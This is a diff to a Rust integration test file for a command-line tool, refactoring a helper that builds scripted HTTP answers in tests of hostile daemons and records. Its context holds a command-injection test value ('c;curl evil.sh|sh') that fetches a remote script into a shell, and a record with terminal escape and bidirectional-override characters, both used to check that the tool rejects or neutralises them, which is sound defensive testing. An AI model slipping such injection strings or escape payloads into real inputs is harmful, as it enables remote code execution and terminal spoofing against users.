@@ -1,7 +1,7 @@
 //! What a hostile daemon, or a hostile record, does to the machine of who asks for it: nothing.
 
-use super::retries::server;
 use crate::support::run::run;
+use crate::support::scripted::{answer, server};
 use crate::support::terminal::Terminal;
 use crate::support::world::{World, mfa};
 use serde_json::{Value, json};
@@ -14,9 +14,8 @@ use std::process::Command;
 /// A customer's identifier may have any signs but a slash and control characters.
 const EVIL: &str = "c;curl evil.sh|sh";
 
-fn answer(kind: &str, body: &str) -> String {
-    let head = "HTTP/1.1 200 OK\r\nconnection: close\r\ncontent-type";
-    format!("{head}: {kind}\r\ncontent-length: {}\r\n\r\n{body}", body.len())
+fn well(kind: &str, body: &str) -> String {
+    answer("200 OK", &[&format!("content-type: {kind}")], body)
 }
 
 /// A daemon that answers each path with what a function says; a client may hang up before its end.
@@ -93,7 +92,7 @@ fn the_file_of_a_day_report_has_the_name_that_was_asked_for() {
     ] {
         let mut report = report.clone();
         report[name] = value;
-        let (url, _) = server(vec![answer("application/json", &report.to_string())]);
+        let (url, _) = server(vec![well("application/json", &report.to_string())]);
         let save = ["teller", "reports", "save", "desk-1", "1", "--office", "ho", "--url", &url];
         let more = ["--report-format", "json", "--report-dir", folder.to_str().unwrap()];
         let said = run(mfa(home.path(), &[&save[..], &more].concat())).fails(1);
@@ -101,7 +100,7 @@ fn the_file_of_a_day_report_has_the_name_that_was_asked_for() {
         assert_eq!(fs::read_dir(&folder).unwrap().count(), 0, "{name}");
         assert_eq!(fs::read_dir(folder.parent().unwrap()).unwrap().count(), 1, "{name}");
     }
-    let (url, _) = server(vec![answer("application/json", &report.to_string())]);
+    let (url, _) = server(vec![well("application/json", &report.to_string())]);
     let save = ["teller", "reports", "save", "desk-1", "1", "--office", "ho", "--url", &url];
     let more = ["--report-format", "json", "--report-dir", folder.to_str().unwrap()];
     run(mfa(home.path(), &[&save[..], &more].concat())).ok();
@@ -115,7 +114,7 @@ fn an_export_takes_no_identifier_that_would_be_a_path_or_markup() {
         let user = json!({ "identifier": id, "role": "clerk" }).to_string();
         let url = daemon(move |path| {
             let records = if path.starts_with("/users") { format!("{user}\n") } else { String::new() };
-            answer("application/x-ndjson", &records)
+            well("application/x-ndjson", &records)
         });
         let said = run(mfa(home.path(), &["export", "out", "--url", &url, "--retries", "0"])).fails(1);
         assert!(said.contains("no daemon takes such an identifier"), "{id}: {said}");
@@ -172,7 +171,7 @@ fn an_answer_that_is_too_long_is_not_read() {
 fn an_exported_trail_does_not_steer_the_terminal_and_is_the_same_in_a_file() {
     let world = World::start();
     let record = "{\"a\":\"\u{1b}]0;owned\u{7}\u{202e}\"}\n";
-    let url = daemon(move |_| answer("application/x-ndjson", record));
+    let url = daemon(move |_| well("application/x-ndjson", record));
     let line = ["audit", "export", "-", "--url", &url];
     assert_eq!(run(world.mfa(&line)).ok(), record);
     let screen = Terminal::start(&world, 100, &[]).run(&format!("mfa {}", line.join(" ")));
